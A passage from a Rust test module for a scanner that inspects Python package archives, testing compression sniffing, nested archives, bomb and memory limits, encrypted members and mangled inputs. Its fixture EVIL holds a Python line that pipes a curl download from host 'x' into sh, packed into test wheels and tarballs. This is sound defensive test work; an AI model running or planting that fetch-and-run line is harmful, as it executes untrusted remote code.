        builder.append_data(&mut header, "pkg-1.0/setup.py", &data[..]).unwrap();
        builder.into_inner().unwrap().finish().unwrap();
        let (seen, result) = collect(&path, ArchiveLimits::default());
        result.unwrap();
        assert_eq!(
            problems(&seen),
            [
                ("pkg-1.0/link.py", "link member: not followed"),
                ("pkg-1.0/hook.pth", "link member: not followed")
            ]
        );
        assert_eq!(source_names(&seen), ["pkg-1.0/setup.py"]);
    }

    /// A tarball of `members` (name, bytes), uncompressed.
    fn tarball(members: &[(&str, &[u8])]) -> Vec<u8> {
        let mut builder = tar::Builder::new(Vec::new());
        for (name, data) in members {
            let mut header = tar::Header::new_gnu();
            header.set_size(data.len() as u64);
            header.set_mode(0o644);
            header.set_entry_type(tar::EntryType::Regular);
            builder.append_data(&mut header, name, *data).unwrap();
        }
        builder.into_inner().unwrap()
    }

    fn gzip(bytes: &[u8]) -> Vec<u8> {
        let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        gz.write_all(bytes).unwrap();
        gz.finish().unwrap()
    }

    fn bzip2(bytes: &[u8]) -> Vec<u8> {
        let mut bz = bzip2::write::BzEncoder::new(Vec::new(), bzip2::Compression::default());
        bz.write_all(bytes).unwrap();
        bz.finish().unwrap()
    }

    fn source_names(seen: &[ArchiveEntry]) -> Vec<&str> {
        seen.iter()
            .filter_map(|e| match e {
                ArchiveEntry::Source { name, .. } => Some(name.as_str()),
                ArchiveEntry::Problem { .. }
                | ArchiveEntry::Project { .. }
                | ArchiveEntry::Metadata { .. }
                | ArchiveEntry::Record { .. } => None,
            })
            .collect()
    }

    fn problems(seen: &[ArchiveEntry]) -> Vec<(&str, &str)> {
        seen.iter()
            .filter_map(|e| match e {
                ArchiveEntry::Problem { name, message } => Some((name.as_str(), message.as_str())),
                ArchiveEntry::Source { .. }
                | ArchiveEntry::Project { .. }
                | ArchiveEntry::Metadata { .. }
                | ArchiveEntry::Record { .. } => None,
            })
            .collect()
    }

    const EVIL: &[u8] = b"import os\nos.system('curl http://x | sh')\n";

    #[test]
    fn every_stream_of_a_multi_stream_tarball_is_read() {
        // The first stream ends without the tarball's end blocks, the second holds setup.py:
        // Python's gzip and bz2 modules read on into the second stream, and so must a scanner.
        let whole = tarball(&[("p-1/README", b"hello\n"), ("p-1/setup.py", EVIL)]);
        let (first, second) = whole.split_at(1024);
        let dir = tempfile::tempdir().unwrap();
        let gz = dir.path().join("p-1.tar.gz");
        std::fs::write(&gz, [gzip(first), gzip(second)].concat()).unwrap();
        let bz = dir.path().join("p-1.tar.bz2");
        std::fs::write(&bz, [bzip2(first), bzip2(second)].concat()).unwrap();
        for path in [gz, bz] {
            let (seen, result) = collect(&path, ArchiveLimits::default());
            result.unwrap();
            assert_eq!(source_names(&seen), ["p-1/setup.py"], "{}", path.display());
        }
    }

    #[test]
    fn a_tarballs_compression_is_read_from_its_bytes_not_its_name() {
        let plain = tarball(&[("p-1/setup.py", EVIL)]);
        let mut xz = Vec::new();
        {
            let mut writer =
                lzma_rust2::XzWriter::new(&mut xz, lzma_rust2::XzOptions::with_preset(6)).unwrap();
            writer.write_all(&plain).unwrap();
            writer.finish().unwrap();
        }
        let dir = tempfile::tempdir().unwrap();
        for (name, bytes) in [
            ("gzip-named-plain.tar", gzip(&plain)),
            ("p-1.tar.xz", xz.clone()),
            ("p-1.txz", xz),
            ("p-1.tbz", bzip2(&plain)),
            ("bzip2-named-gzip.tar.gz", bzip2(&plain)),
            ("p-1.tar", plain.clone()),
        ] {
            let path = dir.path().join(name);
            std::fs::write(&path, bytes).unwrap();
            let (seen, result) = collect(&path, ArchiveLimits::default());
            result.unwrap();
            assert_eq!(source_names(&seen), ["p-1/setup.py"], "{name}");
        }
    }

    #[test]
    fn an_archives_container_is_read_from_its_bytes_when_its_name_says_otherwise() {
        // Mirrors and malware datasets store wheels as `NAME-py3-none-any.tar.gz`: a zip. Read
        // as a tarball by its name, nothing of it was scanned.
        let zip = zip_bytes(&[("p/__init__.py", EVIL)]);
        let plain = tarball(&[("p/__init__.py", EVIL)]);
        let dir = tempfile::tempdir().unwrap();
        for (name, bytes) in [
            ("p-1-py3-none-any.tar.gz", zip.clone()),
            ("p-1.tgz", zip.clone()),
            ("p-1.tar", zip),
            ("p-1-py3-none-any.whl", gzip(&plain)),
            ("p-1.zip", bzip2(&plain)),
            ("p-1.egg", plain),
        ] {
            let path = dir.path().join(name);
            std::fs::write(&path, bytes).unwrap();
            let (seen, result) = collect(&path, ArchiveLimits::default());
            result.unwrap();
            assert_eq!(source_names(&seen), ["p/__init__.py"], "{name}");
        }
    }

    #[test]
    fn sniffing_a_container_tells_only_what_its_first_bytes_show() {
        assert_eq!(sniff_container(b"PK\x03\x04rest"), Some(ArchiveKind::Zip));
        assert_eq!(sniff_container(b"PK\x05\x06"), Some(ArchiveKind::Zip));
        assert_eq!(sniff_container(&[0x1f, 0x8b, 8]), Some(ArchiveKind::Tar));
        assert_eq!(sniff_container(b"BZh91AY"), Some(ArchiveKind::Tar));
        let mut ustar = vec![0u8; 512];
        ustar[257..262].copy_from_slice(b"ustar");
        assert_eq!(sniff_container(&ustar), Some(ArchiveKind::Tar));
        // A zip application starts with its shebang; an lzma-alone stream has no magic.
        assert_eq!(sniff_container(b"#!/usr/bin/env python3\nPK\x03\x04"), None);
        assert_eq!(sniff_container(&[0x5d, 0, 0, 0x80, 0]), None);
        assert_eq!(sniff_container(b""), None);
    }

    #[test]
    fn an_lzma_header_asking_for_gigabytes_is_refused_before_allocating() {
        // The legacy .lzma header: properties, a 32-bit dictionary size (3 GiB: valid, and over
        // the limit), a 64-bit length.
        let mut bytes = vec![0x5d];
        bytes.extend_from_slice(&(3u32 << 30).to_le_bytes());
        bytes.extend_from_slice(&u64::MAX.to_le_bytes());
        bytes.extend_from_slice(&[0; 64]);
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("p-1.tar.lzma");
        std::fs::write(&path, bytes).unwrap();
        let (_, result) = collect(&path, ArchiveLimits::default());
        // Refused for its memory, not for the zeros after the header.
        assert!(
            matches!(&result, Err(ArchiveError::Corrupt(why)) if why.contains("memory")),
            "{result:?}"
        );
    }

    #[test]
    fn an_xz_block_asking_for_gigabytes_is_refused_before_allocating() {
        let mut xz = Vec::new();
        {
            let mut writer =
                lzma_rust2::XzWriter::new(&mut xz, lzma_rust2::XzOptions::with_preset(1)).unwrap();
            writer.write_all(&tarball(&[("p-1/setup.py", EVIL)])).unwrap();
            writer.finish().unwrap();
        }
        // The block header follows the 12-byte stream header: its size, flags, optional sizes,
        // then the LZMA2 filter (id 0x21, one property byte: the dictionary size) and a CRC32.
        let start = 12;
        let size = (usize::from(xz[start]) + 1) * 4;
        let flags = xz[start + 1];
        let mut at = start + 2;
        let skip_varint = |at: &mut usize, bytes: &[u8]| {
            while bytes[*at] & 0x80 != 0 {
                *at += 1;
            }
            *at += 1;
        };
        if flags & 0x40 != 0 {
            skip_varint(&mut at, &xz);
        }
        if flags & 0x80 != 0 {
            skip_varint(&mut at, &xz);
        }
        assert_eq!((xz[at], xz[at + 1]), (0x21, 1), "an LZMA2 filter with one property byte");
        xz[at + 2] = 40; // 4 GiB - 1, the largest dictionary LZMA2 can declare
        let mut crc = flate2::Crc::new();
        crc.update(&xz[start..start + size - 4]);
        xz[start + size - 4..start + size].copy_from_slice(&crc.sum().to_le_bytes());
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("p-1.tar.xz");
        std::fs::write(&path, &xz).unwrap();
        let (seen, result) = collect(&path, ArchiveLimits::default());
        assert!(
            matches!(&result, Err(ArchiveError::Corrupt(why)) if why.contains("memory")),
            "{result:?}"
        );
        assert!(seen.is_empty());
    }

    #[test]
    fn zip_members_in_any_compression_python_reads_are_read() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("w-1-py3-none-any.whl");
        let mut zip = zip::ZipWriter::new(std::fs::File::create(&path).unwrap());
        for (name, method) in [
            ("w/deflated.py", zip::CompressionMethod::Deflated),
            ("w/bzip2.py", zip::CompressionMethod::Bzip2),
            ("w/stored.py", zip::CompressionMethod::Stored),
        ] {
            let opts = zip::write::SimpleFileOptions::default().compression_method(method);
            zip.start_file(name, opts).unwrap();
            zip.write_all(EVIL).unwrap();
        }
        zip.finish().unwrap();
        let (seen, result) = collect(&path, ArchiveLimits::default());
        result.unwrap();
        assert_eq!(source_names(&seen), ["w/deflated.py", "w/bzip2.py", "w/stored.py"]);
    }

    #[test]
    fn an_encrypted_member_or_one_in_an_unknown_compression_is_named_and_the_rest_read() {
        let dir = tempfile::tempdir().unwrap();
        let stored = zip_with(&[("w/odd.py", EVIL), ("w/next.py", EVIL)], dir.path());
        // Give the first member compression method 93 (zstd) in its local and central headers.
        let mut bytes = std::fs::read(&stored).unwrap();
        let local = bytes.windows(4).position(|w| w == b"PK\x03\x04").unwrap();
        bytes[local + 8..local + 10].copy_from_slice(&93u16.to_le_bytes());
        let central = bytes.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
        bytes[central + 10..central + 12].copy_from_slice(&93u16.to_le_bytes());
        std::fs::write(&stored, bytes).unwrap();
        let (seen, result) = collect(&stored, ArchiveLimits::default());
        result.unwrap();
        let problems = problems(&seen);
        assert_eq!(problems.len(), 1, "{seen:?}");
        assert_eq!(problems[0].0, "w/odd.py");
        assert!(problems[0].1.contains("not scanned"), "{problems:?}");
        assert_eq!(source_names(&seen), ["w/next.py"]);
        // An encrypted member (flag bit 0 in both headers) is named the same way.
        let encrypted = zip_with(&[("w/locked.py", EVIL), ("w/next.py", EVIL)], dir.path());
        let mut bytes = std::fs::read(&encrypted).unwrap();
        let local = bytes.windows(4).position(|w| w == b"PK\x03\x04").unwrap();
        bytes[local + 6] |= 1;
        let central = bytes.windows(4).position(|w| w == b"PK\x01\x02").unwrap();
        bytes[central + 8] |= 1;
        std::fs::write(&encrypted, bytes).unwrap();
        let (seen, result) = collect(&encrypted, ArchiveLimits::default());
        result.unwrap();
        let locked = super::tests::problems(&seen);
        assert_eq!(locked.len(), 1, "{seen:?}");
        assert_eq!(locked[0].0, "w/locked.py");
        assert!(locked[0].1.contains("not scanned"), "{locked:?}");
        assert_eq!(source_names(&seen), ["w/next.py"]);
    }

    #[test]
    fn scripts_without_a_suffix_are_read_when_they_start_with_a_python_shebang() {
        let dir = tempfile::tempdir().unwrap();
        let script = [b"#!python\n".as_slice(), EVIL].concat();
        let path = zip_with(
            &[
                ("w-1.data/scripts/wtool", &script),
                ("w-1.data/scripts/shtool", b"#!/bin/sh\necho hi\n"),
                ("w-1.dist-info/LICENSE", b"MIT\n"),
            ],
            dir.path(),
        );
        let (seen, result) = collect(&path, ArchiveLimits::default());
        result.unwrap();
        assert_eq!(source_names(&seen), ["w-1.data/scripts/wtool"]);
        assert!(matches!(&seen[0], ArchiveEntry::Source { bytes, .. } if *bytes == script));
    }

    #[test]
    fn compiled_members_without_their_source_are_reported() {
        let dir = tempfile::tempdir().unwrap();
        let path = zip_with(
            &[
                ("w/hidden.pyc", b"\x00"),
                ("w/legacy.pyo", b"\x00"),
                ("w/beside.pyc", b"\x00"),
                ("w/beside.py", b"x = 1\n"),
                ("w/__pycache__/cached.cpython-311.pyc", b"\x00"),
            ],
            dir.path(),
        );
        let (seen, result) = collect(&path, ArchiveLimits::default());
        result.unwrap();
        let names: Vec<_> = problems(&seen).iter().map(|p| p.0).collect();
        assert_eq!(names, ["w/hidden.pyc", "w/legacy.pyo"]);
        assert!(problems(&seen).iter().all(|p| p.1 == crate::SOURCELESS_BYTECODE));
        // In a tarball the source may come after its compiled file.
        let tar_path = dir.path().join("p-1.tar");
        std::fs::write(
            &tar_path,
            tarball(&[("p/a.pyc", b"\x00"), ("p/a.py", b"x = 1\n"), ("p/b.pyc", b"\x00")]),
        )
        .unwrap();
        let (seen, result) = collect(&tar_path, ArchiveLimits::default());
        result.unwrap();
        let names: Vec<_> = problems(&seen).iter().map(|p| p.0).collect();
        assert_eq!(names, ["p/b.pyc"]);
    }

    #[test]
    fn mangled_archives_end_in_an_error_or_a_bounded_read_never_a_panic() {
        // Small valid archives of every kind, then thousands of mangled copies: bytes
        // overwritten, cut short, or spliced. Each read must return, and what it hands on must
        // stay within the limits.
        let members: &[(&str, &[u8])] =
            &[("p/setup.py", EVIL), ("p/a.pyc", b"\x00"), ("p/tool", b"#!python\nx = 1\n")];
        let plain = tarball(members);
        let mut xz = Vec::new();
        {
            let mut writer =
                lzma_rust2::XzWriter::new(&mut xz, lzma_rust2::XzOptions::with_preset(1)).unwrap();
            writer.write_all(&plain).unwrap();
            writer.finish().unwrap();
        }
        let dir = tempfile::tempdir().unwrap();
        let zip = std::fs::read(zip_with(members, dir.path())).unwrap();
        let originals = [
            ("m.whl", zip),
            ("m.tar", plain.clone()),
            ("m.tar.gz", gzip(&plain)),
            ("m.tar.bz2", bzip2(&plain)),
            ("m.tar.xz", xz),
        ];
        let limits = ArchiveLimits {
            max_total_bytes: 1 << 20,
            max_member_bytes: 64 << 10,
            max_members: 64,
            max_ratio: 200,
        };
        let mut state: u64 = 0x243f_6a88_85a3_08d3;
        let mut next = move || {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            state
        };
        let mut read_whole = 0;
        for (name, original) in &originals {
            for round in 0..400 {
                let mut bytes = original.clone();
                let at = (next() % bytes.len() as u64) as usize;
                match round % 4 {
                    0 => bytes[at] ^= 1 << (next() % 8),
                    1 => bytes.truncate(at),
                    2 => {
                        for _ in 0..8 {
                            let i = (next() % bytes.len().max(1) as u64) as usize;
                            if let Some(b) = bytes.get_mut(i) {
                                *b = next() as u8;
                            }
                        }
                    }
                    _ => {
                        let tail = bytes[at..].to_vec();
                        bytes.extend_from_slice(&tail);
                    }
                }
                let path = dir.path().join(name);
                std::fs::write(&path, &bytes).unwrap();
                let mut total = 0usize;
                let mut count = 0usize;
                let result = read_archive(&path, archive_kind(&path).unwrap(), limits, &mut |e| {
                    count += 1;
                    if let ArchiveEntry::Source { bytes, .. } = e {
                        assert!(bytes.len() as u64 <= limits.max_member_bytes);
                        total += bytes.len();
                    }
                });
                assert!(total as u64 <= limits.max_total_bytes, "{name} round {round}");
                assert!(count <= limits.max_members * 2, "{name} round {round}");
                read_whole += usize::from(result.is_ok());
            }
        }
        // Not every mangling breaks an archive (a flipped bit in a file's data does not).
        assert!(read_whole > 0);
    }

    /// A zip of `members`, in memory.
    fn zip_bytes(members: &[(&str, &[u8])]) -> Vec<u8> {
        let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
        for (name, bytes) in members {
            let opts = zip::write::SimpleFileOptions::default()
                .compression_method(zip::CompressionMethod::Deflated);
            zip.start_file(*name, opts).unwrap();
            zip.write_all(bytes).unwrap();
        }
        zip.finish().unwrap().into_inner()
    }

    #[test]
    fn archives_inside_archives_are_read_to_a_depth() {
        // A `.pth` line can put a zip shipped in a wheel on `sys.path`: its modules run.
        let hidden = zip_bytes(&[("hidden.py", EVIL)]);
        let level3 = zip_bytes(&[("deep.zip", &zip_bytes(&[("deepest.py", EVIL)]))]);
        let level2 = zip_bytes(&[("inner.py", EVIL), ("more.zip", &level3)]);
        let dir = tempfile::tempdir().unwrap();
        let wheel = zip_with(
            &[
                ("w.pth", b"hidden.zip\nimport hidden\n"),
                ("hidden.zip", &hidden),
                ("vendor/pkg.whl", &level2),
                ("broken.zip", b"PK\x03\x04 not really"),
                ("w/__init__.py", b"x = 1\n"),
            ],
            dir.path(),
        );
        let (seen, result) = collect(&wheel, ArchiveLimits::default());
        result.unwrap();
        assert_eq!(
            source_names(&seen),
            ["w.pth", "hidden.zip!/hidden.py", "vendor/pkg.whl!/inner.py", "w/__init__.py"]
        );
        let problems = problems(&seen);
        assert_eq!(problems.len(), 2, "{problems:?}");
        assert_eq!(problems[0].0, "vendor/pkg.whl!/more.zip!/deep.zip");
        assert!(problems[0].1.contains("nested more than 2 deep"), "{problems:?}");
        assert_eq!(problems[1].0, "broken.zip");
        assert!(problems[1].1.contains("cannot read archive"), "{problems:?}");
        // The same inside a tarball.
        let tar_path = dir.path().join("p-1.tar.gz");
        std::fs::write(&tar_path, gzip(&tarball(&[("p-1/payload.zip", &hidden)]))).unwrap();
        let (seen, result) = collect(&tar_path, ArchiveLimits::default());
        result.unwrap();
        assert_eq!(source_names(&seen), ["p-1/payload.zip!/hidden.py"]);
    }

    #[test]
    fn a_bomb_inside_an_archive_abandons_the_archive() {
        let spaces = vec![b' '; 40 << 20];
        let bomb = zip_bytes(&[("a.py", &spaces), ("b.py", &spaces)]);
        let dir = tempfile::tempdir().unwrap();
        let wheel = zip_with(&[("ok.py", b"x = 1\n"), ("bomb.zip", &bomb)], dir.path());
        let limits = ArchiveLimits { max_member_bytes: 64 << 20, ..ArchiveLimits::default() };
        let (_, result) = collect(&wheel, limits);
        let err = result.unwrap_err();
        assert!(matches!(err, ArchiveError::Limit(_)), "{err}");
        assert!(err.to_string().starts_with("bomb.zip: "), "{err}");
    }

    #[test]
    fn archives_inside_archives_share_the_member_limit() {
        let names: Vec<String> = (0..30).map(|i| format!("m{i}.py")).collect();
        let members: Vec<(&str, &[u8])> =
            names.iter().map(|n| (n.as_str(), &b"x = 1\n"[..])).collect();
        let inner = zip_bytes(&members);
        let dir = tempfile::tempdir().unwrap();
        let wheel =
            zip_with(&[("a.zip", &inner), ("b.zip", &inner), ("c.zip", &inner)], dir.path());
        let limits = ArchiveLimits { max_members: 64, ..ArchiveLimits::default() };
        let (seen, result) = collect(&wheel, limits);
        let err = result.unwrap_err();
        assert!(err.to_string().contains("more than"), "{err}");
        assert!(source_names(&seen).len() <= 64, "{}", seen.len());
        // Within the limit, all of it is read.
        let (seen, result) = collect(&wheel, ArchiveLimits::default());
        result.unwrap();
        assert_eq!(source_names(&seen).len(), 90);
    }

    #[test]
    fn native_code_is_reported_in_a_pure_python_wheel_only() {
        let members: &[(&str, &[u8])] = &[
            ("w/__init__.py", b"from ._speedups import run\n"),
            ("w/_speedups.cpython-311-x86_64-linux-gnu.so", b"\x7fELF"),
            ("w/helper.pyd", b"MZ"),
        ];
        let dir = tempfile::tempdir().unwrap();
        let pure = zip_with(members, dir.path());
        let (seen, result) = collect(&pure, ArchiveLimits::default());
        result.unwrap();
        let names: Vec<_> = problems(&seen).iter().map(|p| p.0).collect();
        assert_eq!(names, ["w/_speedups.cpython-311-x86_64-linux-gnu.so", "w/helper.pyd"]);
        assert!(problems(&seen).iter().all(|p| p.1.contains("pure Python")));
        let platform = dir.path().join("w-1.0-cp311-cp311-manylinux_2_17_x86_64.whl");
        std::fs::rename(&pure, &platform).unwrap();
        let (seen, result) = collect(&platform, ArchiveLimits::default());
        result.unwrap();
        assert!(problems(&seen).is_empty(), "{seen:?}");
        assert_eq!(source_names(&seen), ["w/__init__.py"]);
    }

    #[test]
    fn pyproject_members_are_handed_on_for_their_build_backend() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("p-1.tar");
        let pyproject = b"[build-system]\nbuild-backend = \"b\"\nbackend-path = [\".\"]\n";
        std::fs::write(
            &path,
            tarball(&[("p-1/b.py", b"x = 1\n"), ("p-1/pyproject.toml", pyproject)]),
        )
        .unwrap();
        let (seen, result) = collect(&path, ArchiveLimits::default());
        result.unwrap();
        assert!(matches!(&seen[1], ArchiveEntry::Project { name, bytes }
            if name == "p-1/pyproject.toml" && bytes == pyproject));
    }

    #[test]
    fn a_drive_letter_path_is_absolute_but_a_colon_in_a_name_is_not() {
        assert!(unsafe_name("C:/evil.py").is_some());
        assert!(unsafe_name("c:\\evil.py").is_some());
        assert!(unsafe_name("a:b.py").is_none());
        assert!(unsafe_name("pkg/a:b.py").is_none());
    }

    #[test]
    fn corrupt_archive_is_an_error() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("bad.whl");
        std::fs::write(&path, b"not a zip").unwrap();
        let (_, result) = collect(&path, ArchiveLimits::default());
        assert!(matches!(result, Err(ArchiveError::Corrupt(_))));
    }
}
